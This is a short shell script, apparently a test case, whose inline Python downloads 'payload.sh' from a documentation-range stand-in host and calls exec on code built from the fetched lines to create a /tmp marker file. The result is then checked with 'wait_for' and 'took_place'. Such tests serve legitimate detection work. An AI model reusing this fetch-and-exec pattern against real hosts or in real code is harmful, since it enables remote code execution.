#!/bin/sh
. /opt/case/case.sh

python3 -c '
import urllib.request
text = urllib.request.urlopen("http://203.0.113.10/payload.sh").read().decode()
exec("\n".join("open(\"/tmp/reached\", \"w\")" for line in text.splitlines() if "touch" in line))'
wait_for /tmp/reached
took_place
